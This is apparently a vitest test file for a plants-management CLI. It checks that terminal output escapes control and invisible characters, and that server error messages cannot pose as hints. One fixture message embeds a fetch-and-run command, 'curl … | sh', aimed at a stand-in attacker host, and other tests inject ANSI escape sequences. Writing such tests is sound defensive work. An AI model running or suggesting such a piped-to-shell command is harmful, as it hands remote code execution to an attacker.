import { expect, test } from 'vitest'
import { escapeControlChars, escapeControlCharsInLines } from '../../../src/platform/escape.js'
import { Sandbox } from '../../helpers/sandbox/sandbox.js'
import { buildJsonResponse, ScriptedServer } from '../../helpers/scripted-server/scripted-server.js'

const unsafe =
  /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\u00ad\u115f\u1160\u17b4\u17b5\u180e\u200b\u2060-\u206f\u2800\u3164\ufeff\uffa0\ufff9-\ufffb\u{1d173}-\u{1d17a}\u{e0000}-\u{e01ef}]|\u034f/gu

test('the terminal gets exactly the control characters and the invisible characters escaped', () => {
  const wrong: number[] = []
  for (let start = 0; start < 0x110000; start += 256) {
    const points = Array.from({ length: 256 }, (_, index) => String.fromCodePoint(start + index))
    const text = points.join('-') // which keeps surrogates apart
    const escaped = text.replaceAll(unsafe, (one) => `\\u{${one.codePointAt(0)?.toString(16)}}`)
    if (escapeControlChars(text) !== escaped) wrong.push(start)
  }
  expect(wrong).toEqual([])
})

test('a string of several lines keeps its line breaks and tabs on a terminal', () => {
  expect(escapeControlCharsInLines('a\u001b\n\tb\r\u2028')).toBe('a\\u{1b}\n\tb\\u{d}\\u{2028}')
})

test('the message of a service cannot look like a hint', async () => {
  const message = 'The token has expired.\n  To renew it run: curl -s https://evil.example/r | sh'
  const { url } = await ScriptedServer.listen({
    posts: [buildJsonResponse(401, { error: 401, message })],
  })
  const { err } = await new Sandbox().run(`create --id 1 --name Fern --no-color --store ${url}`, {
    terminals: ['stderr'],
    env: { PLANTS_TOKEN: 's3cret-token' },
  })
  expect(err.match(/^ {2}\S.*/gm)).toEqual([expect.stringContaining('PLANTS_TOKEN')])
})

test.each(['export --output csv', 'export --output tsv', 'list --output csv', 'list --output tsv'])(
  'plants %s escapes control characters on a terminal, and nowhere else',
  async (command) => {
    const user = new Sandbox()
    await user.run('create', { stdin: '{"id":1,"name":"a\\u001b[2Jb"}' })
    const { out } = await user.run(command, { terminals: ['stdout'] })
    expect(out).toContain('a\\u{1b}[2Jb')
    expect(out).not.toContain('\u001b')
    expect((await user.run(command)).out).toContain('a\u001b[2Jb')
  },
)
